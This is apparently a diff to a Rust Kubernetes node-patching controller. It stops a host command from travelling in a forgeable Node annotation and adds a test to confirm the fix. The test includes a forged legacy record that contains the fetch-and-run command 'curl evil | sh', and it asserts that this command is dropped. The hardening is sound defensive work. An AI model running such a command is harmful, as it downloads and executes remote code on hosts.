@@ -6,7 +6,7 @@
 //! | key | kind | written by | meaning |
 //! |---|---|---|---|
 //! | `sofort.dev/step` | label | controller | current step (`Draining` … `Settling`, `Failed`); absent when idle |
-//! | `sofort.dev/record` | annotation | controller | JSON [`NodeRecord`]: claim, step, since, boot ID before reboot, pre-cordon state |
+//! | `sofort.dev/record` | annotation | controller | JSON [`NodeRecord`]: claim, step, since, boot ID before reboot, pre-cordon state (never a command) |
 //! | `sofort.dev/done` | annotation | controller | JSON map policy → revision completed on this node |
 //! | `sofort.dev/reboot-required` | label | agent | `true`/`false` from the reboot sentinel |
 //! | `sofort.dev/reboot-ack` | annotation | agent | JSON [`RebootAck`]: written just before the agent reboots |
@@ -56,7 +56,8 @@ pub struct NodeRecord {
     /// node reports a different one and is Ready.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub boot_id_before: Option<String>,
-    /// When set, the agent runs this host command during the `Patching` step.
+    /// Set during the `Patching` step: the agent runs the host patch command of
+    /// the PatchPolicy named in `policy` (never a command from the Node).
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub patch: Option<PatchRequest>,
     /// Why the node failed (step `Failed`).
@@ -64,13 +65,15 @@ pub struct NodeRecord {
     pub reason: Option<String>,
 }
 
-/// The host command the agent is asked to run.
+/// A request to run the policy's host patch command. It carries no command:
+/// Node annotations are readable by everyone and writable by anyone who may
+/// patch Nodes, so the agent reads `spec.patch` from the PatchPolicy itself.
+/// A `command` field written by older versions is ignored.
 #[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
 #[serde(rename_all = "camelCase")]
 pub struct PatchRequest {
-    /// Program and arguments.
-    pub command: Vec<String>,
-    /// Timeout in seconds.
+    /// The controller's patch timeout in seconds (for humans reading the record;
+    /// the agent takes the timeout from the PatchPolicy too).
     pub timeout_seconds: u64,
 }
 
@@ -181,6 +184,31 @@ mod tests {
         ann.insert(RECORD_ANNOTATION.to_string(), json);
         let back: Option<NodeRecord> = read_json("n1", Some(&ann), RECORD_ANNOTATION).unwrap();
         assert_eq!(back, Some(rec));
+    }
+
+    #[test]
+    fn the_patch_command_never_travels_in_a_node_annotation() {
+        let rec = NodeRecord {
+            policy: "workers".into(),
+            revision: "r1".into(),
+            step: Step::Patching,
+            since: "2026-11-27T22:00:00Z".parse().unwrap(),
+            started: "2026-11-27T21:50:00Z".parse().unwrap(),
+            was_unschedulable: false,
+            boot_id_before: None,
+            patch: Some(PatchRequest {
+                timeout_seconds: 60,
+            }),
+            reason: None,
+        };
+        let json: serde_json::Value = serde_json::to_value(&rec).unwrap();
+        assert_eq!(json["patch"], serde_json::json!({"timeoutSeconds": 60}));
+        // A record written by an older controller (or forged) with a command
+        // still reads, and the command is dropped.
+        let old = r#"{"policy":"workers","revision":"r1","step":"Patching","since":"2026-11-27T22:00:00Z","started":"2026-11-27T21:50:00Z","wasUnschedulable":false,"patch":{"command":["sh","-c","curl evil | sh"],"timeoutSeconds":60}}"#;
+        let back: NodeRecord = serde_json::from_str(old).unwrap();
+        assert_eq!(back, rec);
+        assert!(!serde_json::to_string(&back).unwrap().contains("curl"));
     }
 
     #[test]
